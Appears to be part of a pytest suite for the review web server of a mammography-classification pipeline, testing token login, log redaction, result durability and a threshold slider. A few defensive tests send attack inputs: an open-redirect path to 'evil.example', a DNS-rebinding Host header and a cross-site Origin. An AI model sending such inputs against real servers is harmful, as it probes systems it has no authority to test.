    from mammo.errors import MammoError
    from pipeline.serve import Address, check_address

    assert check_address("127.0.0.1", 8000, None) == Address("127.0.0.1", 8000, None)
    with pytest.raises(MammoError, match="give a token"):
        check_address("0.0.0.0", 8000, None)
    with pytest.raises(MammoError, match="port"):
        check_address("127.0.0.1", 0, None)
    token = "s3cret-token-0123456789"
    client = TestClient(create_app([run], token=token), base_url="http://10.1.2.3:8000")
    for url in ["/", f"/api/images/0/{KNOWN}", "/runs/0/verdicts.csv", "/static/style.css",
                f"/api/tiles/0/{KNOWN}/0/0_0.jpg"]:
        assert client.get(url).status_code == 401, url
        assert client.get(url, headers={"Authorization": "Bearer wrong-token-0123456789"}).status_code == 401
        assert client.get(url, headers={"Authorization": f"Bearer {token}"}).status_code == 200, url
    assert client.post(f"/api/verdicts/0/{KNOWN}", json={"reader": "x", "image": {"agreement": "agree"}}
                       ).status_code == 401
    r = client.get(f"/?token={token}", follow_redirects=False)
    assert r.status_code == 303 and "token" not in r.headers["location"]
    assert client.get("/").status_code == 200  # the cookie now carries it
    client.cookies.clear()
    assert client.get("/").status_code == 401


def test_a_base64_token_logs_in_through_the_printed_url(standin):
    """`openssl rand -base64` tokens hold + / =: the printed address percent-encodes them, and the login
    redirect is relative (a TLS proxy in front knows the scheme and host the browser used)."""
    from urllib.parse import urlsplit

    from pipeline.serve import login_url

    _, run, *_ = standin
    token = "Qk3+x/9aZbT1w+Lm0pR7sV=="
    url = urlsplit(login_url("0.0.0.0", 8000, token))
    assert (url.hostname, url.port, url.path) == ("127.0.0.1", 8000, "/")
    client = TestClient(create_app([run], token=token), base_url="http://10.1.2.3:8000")
    assert client.get(f"/?token={token}").status_code == 401  # the raw token: '+' arrives as a space
    r = client.get(f"/?{url.query}", follow_redirects=False)
    assert r.status_code == 303 and r.headers["location"] == "/", r.headers
    assert "secure" not in r.headers["set-cookie"].lower()  # plain HTTP: a Secure cookie would never come back
    assert client.get("/").status_code == 200  # the cookie carries the token
    behind_tls = TestClient(create_app([run], token=token), base_url="https://10.1.2.3")  # as a proxy tells it
    assert "secure" in behind_tls.get(f"/?{url.query}", follow_redirects=False).headers["set-cookie"].lower()
    r = client.get(f"/view/0/{KNOWN}?{url.query}&x=1", follow_redirects=False)
    assert r.headers["location"] == f"/view/0/{KNOWN}?x=1"
    r = client.get(f"http://10.1.2.3:8000//evil.example/?{url.query}", follow_redirects=False)
    assert r.headers["location"] == "/evil.example/"  # never a protocol-relative address to another site
    assert login_url("::1", 8000, None) == "http://[::1]:8000/"


def test_access_log_never_shows_the_token():
    import logging

    from pipeline.serve.security import RedactToken

    record = logging.LogRecord("uvicorn.access", logging.INFO, "", 0, '%s - "%s %s HTTP/%s" %d', (
        "127.0.0.1:5000", "GET", "/view/0/x?a=1&token=s3cret-token-0123456789&b=2", "1.1", 303), None)
    assert RedactToken().filter(record)
    assert "s3cret" not in record.getMessage() and "token=***&b=2" in record.getMessage()


def test_loopback_server_refuses_other_host_names_and_cross_site_posts(standin):
    client = standin[0]
    assert client.get("/", headers={"host": "evil.example"}).status_code == 403  # DNS rebinding
    for host in ("127.0.0.1:8000", "localhost:8000", "[::1]:8000"):
        assert client.get("/", headers={"host": host}).status_code == 200, host
    assert client.get("/", headers={"host": "testserver"}).status_code == 403  # the test client's own name
    r = client.post(f"/api/verdicts/0/{KNOWN}", json={"reader": "x", "image": {"agreement": "agree"}},
                    headers={"origin": "http://evil.example"})
    assert r.status_code == 403


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def test_cli_refuses_a_public_host_without_token_before_loading_models(tmp_path):
    env = {**os.environ}
    env.pop("MAMMO_SERVE_TOKEN", None)
    result = subprocess.run([sys.executable, "-m", "pipeline", "serve", str(tmp_path), "--host", "0.0.0.0"],
                            cwd=REPO, capture_output=True, text=True, timeout=120, env=env)
    assert result.returncode == 2 and "give a token" in result.stderr


@pytest.mark.slow
def test_verdicts_survive_restart_and_sigkill_mid_write(served, tiny_bundle, tmp_path):
    """The real command: saves stream in while the server is SIGKILLed; after a restart every save that was
    acknowledged is there and the database is intact."""
    import httpx

    _, run, *_ = served
    port = free_port()
    cmd = [sys.executable, "-m", "pipeline", "serve", str(run), "--port", str(port), "--models", str(tiny_bundle)]

    def start():
        proc = subprocess.Popen(cmd, cwd=REPO, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
        end = time.time() + 180
        while time.time() < end:
            try:
                if httpx.get(f"http://127.0.0.1:{port}/api/images", timeout=2).status_code == 200:
                    return proc
            except httpx.HTTPError:
                time.sleep(0.3)
            assert proc.poll() is None, proc.stdout.read()
        raise AssertionError("server did not start")

    proc = start()
    acknowledged, stop = [], threading.Event()

    def writer(reader):
        with httpx.Client(base_url=f"http://127.0.0.1:{port}", timeout=5) as c:
            i = 0
            while not stop.is_set():
                comment = f"{reader} save {i}"
                try:
                    r = c.post(f"/api/verdicts/0/{KNOWN}", json={"reader": reader, "image": {"comment": comment}})
                except httpx.HTTPError:
                    return
                if r.status_code == 200:
                    acknowledged.append((reader, comment))
                i += 1

    threads = [threading.Thread(target=writer, args=(f"tab{k}",)) for k in range(2)]
    [t.start() for t in threads]
    time.sleep(1.5)
    proc.send_signal(signal.SIGKILL)
    proc.wait()
    stop.set()
    [t.join() for t in threads]
    assert len(acknowledged) > 10
    proc = start()
    try:
        with httpx.Client(base_url=f"http://127.0.0.1:{port}") as c:
            current = {v["reader"]: v["comment"] for v in c.get(f"/api/verdicts/0/{KNOWN}").json()["verdicts"]
                       if v["box"] < 0}
            for reader in ("tab0", "tab1"):
                last = [comment for r, comment in acknowledged if r == reader][-1]
                n_last = int(last.rsplit(" ", 1)[1])
                assert int(current[reader].rsplit(" ", 1)[1]) >= n_last  # the last acknowledged save or later
            assert c.get("/runs/0/verdicts.csv").status_code == 200
    finally:
        proc.terminate()
        proc.wait(timeout=30)
    import sqlite3

    db = sqlite3.connect(run / ".serve" / "verdicts.sqlite")
    assert db.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
    saved = {(r, c) for r, c in db.execute("SELECT reader, value FROM verdicts WHERE field = 'comment'")}
    assert set(acknowledged) <= saved


# --- the threshold slider's scale and the API's probability fields -----------------------------------------------
def test_fallback_scale_puts_the_shipped_threshold_at_the_middle_and_round_trips():
    from types import SimpleNamespace

    from pipeline.serve.scale import slider_scale, to_position, to_value

    ranked = [SimpleNamespace(score=0.3, probability=None), SimpleNamespace(score=0.01, probability=0.1)]
    scale = slider_scale(ranked, 0.0229, shipped_probability=0.2)  # one image without a probability: the score
    assert scale["kind"] == "score" and scale["shipped_position"] == pytest.approx(0.5)
    assert scale["shipped_value"] == 0.0229
    values = np.r_[0.0, np.geomspace(1e-4, 1, 60)]
    positions = [to_position(scale, v) for v in values]
    assert np.all(np.diff(positions) > 0) and positions[0] == 0 and positions[-1] == 1  # strictly monotone
    assert [to_value(scale, p) for p in positions] == pytest.approx(values, abs=1e-12)  # round trip
    assert to_position(scale, 0.0228) < 0.5 < to_position(scale, 0.023)  # calls on either side keep their side
    for edge in (0.0, 1.0):  # a threshold at an end: an increasing scale still, and its mark at the exact value
        s = slider_scale(ranked, edge)
        assert np.all(np.diff(s["values"]) > 0) and to_value(s, s["shipped_position"]) == edge


def test_probability_scale_is_the_probability_itself():
    from types import SimpleNamespace

    from pipeline.serve.scale import result_value, slider_scale, to_position, to_value

    results = [SimpleNamespace(score=0.04, probability=0.31), SimpleNamespace(score=0.001, probability=0.02)]
    scale = slider_scale(results, 0.0229, shipped_probability=0.27)
    assert scale["kind"] == "probability" and scale["shipped_position"] == pytest.approx(0.27)
    assert to_position(scale, 0.62) == pytest.approx(0.62) and to_value(scale, 0.62) == pytest.approx(0.62)
    assert [result_value(scale, r) for r in results] == [0.31, 0.02]
    assert slider_scale(results, 0.0229)["kind"] == "score"  # no threshold on the probability: no such scale


def write_probable(run: Path, curve: dict | None) -> None:
    """Two results of models with a calibration map and a findings rule: a box that scores the image and a
    finding beside it; `curve` is written as infer writes it beside them."""
    from pipeline.results import CURVE_FILE

    source = write_png(run.parent / "probable.png", 5, 1, shape=(200, 300))  # tiles need a real original
    lesions = [LesionResult([10, 10, 40, 40], 0.6, 0.99, finding=True, scores_image=True, p_lesion=0.55,
                            p_malignant=0.3),
               LesionResult([100, 80, 130, 120], 0.3, 0.4, finding=True, scores_image=False, p_lesion=0.2,
                            p_malignant=0.05)]
    for image_id, score, p in (("prob_a", 0.594, 0.41), ("prob_b", 0.004, 0.03)):
        write_result(run, ImageResult(image_id, str(source), 300, 200, score, 0.0229,
                                      "malignant" if score >= 0.0229 else "not malignant",
                                      lesions if image_id == "prob_a" else [], probability=p,
                                      probability_threshold=0.12,
                                      threshold_source="chosen on 5-fold cross-validation OOF predictions"))
    if curve is not None:
        (run / CURVE_FILE).write_text(json.dumps(curve))


def test_api_carries_the_probability_the_findings_and_the_curve(tmp_path):
    from pipeline.operating_point import operating_curve

    run = tmp_path / "run"
    curve = operating_curve(np.array([0, 0, 1, 1, 0, 1]), np.array([0.05, 0.2, 0.3, 0.8, 0.5, 0.9]))
    write_probable(run, curve)
    client = TestClient(create_app([run]), base_url=LOCAL)
    listing = client.get("/api/images").json()
    assert listing["scale"]["kind"] == "probability" and listing["scale"]["shipped_position"] == pytest.approx(0.12)
    assert listing["operating_curve"]["sensitivity"] == curve["sensitivity"]
    assert [(r["image_id"], r["value"]) for r in listing["images"]] == [("prob_a", 0.41), ("prob_b", 0.03)]
    info = client.get("/api/images/0/prob_a").json()
    assert (info["probability"], info["probability_threshold"], info["value"]) == (0.41, 0.12, 0.41)
    assert info["threshold_source"] == "chosen on 5-fold cross-validation OOF predictions"
    assert [(l["finding"], l["scores_image"], l["p_lesion"], l["p_malignant"]) for l in info["lesions"]] == [
        (True, True, 0.55, 0.3), (True, False, 0.2, 0.05)]
    page = client.get("/").text
    assert "threshold on P(malignant)" in page and 'style="left: 12.0000%"' in page  # the shipped mark
    assert "P(malignant)</th>" in page and 'data-value="0.41000000"' in page
    # without the curve file the page says so, and a scale without a probability has no curve either
    (run / "operating_curve.json").unlink()
    bare = TestClient(create_app([run]), base_url=LOCAL)
    assert bare.get("/api/images").json()["operating_curve"] is None
    assert "no out-of-fold curve for these models" in bare.get("/view/0/prob_a").text
    write_result(run, ImageResult("old", "/nowhere/b.png", 30, 20, 0.5, 0.0229, "malignant"))  # no probability
    write_probable(run, curve)
    mixed = TestClient(create_app([run]), base_url=LOCAL).get("/api/images").json()
    assert mixed["scale"]["kind"] == "score" and mixed["operating_curve"] is None
    assert mixed["scale"]["shipped_position"] == pytest.approx(0.5)


def test_a_malformed_curve_file_is_an_error_naming_it(tmp_path):
    from mammo.errors import MammoError

    run = tmp_path / "run"
    write_probable(run, {"probability": [0, 1], "sensitivity": [1.0], "specificity": [0.0, 1.0]})
    with pytest.raises(MammoError, match="operating_curve.json"):
        create_app([run])
